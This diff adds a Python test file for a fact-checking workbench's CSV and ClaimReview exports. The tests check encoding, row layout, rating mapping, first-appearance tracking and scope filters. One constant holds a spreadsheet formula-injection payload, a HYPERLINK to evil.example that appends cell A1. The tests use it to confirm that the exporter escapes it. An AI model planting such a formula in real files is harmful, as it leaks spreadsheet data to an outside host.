@@ -1,0 +1,130 @@
+"""CSV and ClaimReview exports: what a spreadsheet and a fact-check aggregator read."""
+
+from __future__ import annotations
+
+import csv
+import json
+from datetime import UTC, datetime
+from pathlib import Path
+
+from workbench.formats import CSV_COLUMNS, write_claimreview, write_csv
+from workbench.scope import ExportScope, gather
+from workbench.workspace import Workspace
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def _claims(ws: Workspace, data: Path) -> dict[str, str]:
+    confirmed = ws.claims.create(
+        "Convoy seen on the coast road",
+        source=("telegram", "@coast_watch"),
+        source_reliability="B",
+        original_text="شوهدت قافلة على الطريق الساحلي",
+        original_language="ar",
+        translation="Convoy seen on the coast road",
+        post_url="https://t.me/coast_watch/101",
+        posted_at="2026-03-01T08:00:00+00:00",
+        place_name="Coast road",
+        latitude="-33.5",
+        longitude="151.25",
+        tags=["convoy", "coast"],
+        credibility="2",
+    )
+    refuted = ws.claims.create(
+        FORMULA,
+        source=("twitter", "@reposter"),
+        post_url="https://twitter.com/reposter/status/7",
+        posted_at="2026-03-02T09:30:00+00:00",
+        notes="@mention at the start",
+    )
+    open_claim = ws.claims.create("+1 more sighting, unverified", tags=["-minus"])
+    picture = data / "exif" / "Canon_40D.jpg"
+    ws.media.ingest([picture], claim_id=confirmed.id)
+    ws.media.ingest([picture], claim_id=refuted.id)  # the same picture, reposted
+    ws.claims.set_status(confirmed.id, "confirmed", "Geolocated: matches the coast road.")
+    ws.claims.set_status(refuted.id, "refuted", "The picture is from an earlier post.")
+    return {"confirmed": confirmed.id, "refuted": refuted.id, "open": open_claim.id}
+
+
+def test_csv_is_one_row_per_claim_and_opens_safely(
+    workspace: Workspace, data: Path, tmp_path: Path
+) -> None:
+    ids = _claims(workspace, data)
+    out = tmp_path / "claims.csv"
+    write_csv(gather(workspace, ExportScope()), out)
+    raw = out.read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with a BOM: spreadsheets pick UTF-8
+    assert b"\r\n" in raw
+    rows = list(csv.DictReader(out.open(encoding="utf-8-sig", newline="")))
+    assert tuple(rows[0]) == CSV_COLUMNS
+    by_id = {row["id"]: row for row in rows}
+    assert set(by_id) == set(ids.values())
+    confirmed, refuted, open_row = (by_id[ids[k]] for k in ("confirmed", "refuted", "open"))
+    assert confirmed["original_text"] == "شوهدت قافلة على الطريق الساحلي"
+    assert confirmed["latitude"] == "-33.5"  # a number stays a number
+    assert confirmed["source_handle"] == "'@coast_watch"  # would start a formula
+    assert confirmed["tags"] == "convoy; coast" and confirmed["credibility"] == "2"
+    assert confirmed["seen_before"] == "no" and len(confirmed["media_sha256"]) == 64
+    assert refuted["text"] == "'" + FORMULA
+    assert open_row["text"] == "'+1 more sighting, unverified"
+    assert open_row["tags"] == "'-minus" and open_row["status"] == "unconfirmed"
+    assert refuted["posted_at"] == "2026-03-02T09:30:00+00:00"
+    for row in rows:  # no cell a spreadsheet would run
+        for column, cell in row.items():
+            if column not in ("latitude", "longitude"):
+                assert not cell.startswith(("=", "+", "-", "@")), (column, cell)
+
+
+def test_claimreview_lists_decided_claims_with_their_rating_and_appearances(
+    workspace: Workspace, data: Path, tmp_path: Path
+) -> None:
+    ids = _claims(workspace, data)
+    out = tmp_path / "claimreview.jsonld"
+    write_claimreview(gather(workspace, ExportScope()), out)
+    document = json.loads(out.read_text(encoding="utf-8"))
+    assert document["@context"] == "https://schema.org"
+    reviews = {r["identifier"]: r for r in document["@graph"]}
+    assert set(reviews) == {ids["confirmed"], ids["refuted"]}  # no verdict, no review
+    confirmed = reviews[ids["confirmed"]]
+    assert confirmed["@type"] == "ClaimReview"
+    assert confirmed["claimReviewed"] == "شوهدت قافلة على الطريق الساحلي"
+    assert confirmed["inLanguage"] == "ar"
+    assert confirmed["reviewRating"] == {
+        "@type": "Rating",
+        "ratingValue": 5,
+        "bestRating": 5,
+        "worstRating": 1,
+        "alternateName": "Confirmed",
+    }
+    assert confirmed["author"] == {"@type": "Person", "name": "tester"}
+    assert confirmed["datePublished"] == datetime.now(UTC).date().isoformat()
+    assert confirmed["reviewBody"] == "Geolocated: matches the coast road."
+    item = confirmed["itemReviewed"]
+    assert item["author"] == {"@type": "Person", "name": "@coast_watch"}
+    assert item["datePublished"] == "2026-03-01"
+    refuted = reviews[ids["refuted"]]
+    assert refuted["reviewRating"]["ratingValue"] == 1
+    assert refuted["reviewRating"]["alternateName"] == "Refuted"
+    # The same picture was posted twice: the earlier post is its first appearance.
+    first = {"@type": "CreativeWork", "url": "https://t.me/coast_watch/101"}
+    assert refuted["itemReviewed"]["firstAppearance"] == first
+    assert {a["url"] for a in refuted["itemReviewed"]["appearance"]} == {
+        "https://t.me/coast_watch/101",
+        "https://twitter.com/reposter/status/7",
+    }
+
+
+def test_scope_narrows_what_is_exported(workspace: Workspace, data: Path, tmp_path: Path) -> None:
+    ids = _claims(workspace, data)
+    only_coast = gather(workspace, ExportScope(tags=("coast",)))
+    assert [c.claim.id for c in only_coast.claims] == [ids["confirmed"]]
+    decided = gather(
+        workspace,
+        ExportScope(
+            statuses=("confirmed", "refuted"),
+            posted_from=datetime(2026, 3, 2, tzinfo=UTC),
+        ),
+    )
+    assert [c.claim.id for c in decided.claims] == [ids["refuted"]]
+    [seen] = decided.claims[0].seen_before
+    assert seen.other_claim_ids == (ids["confirmed"],)
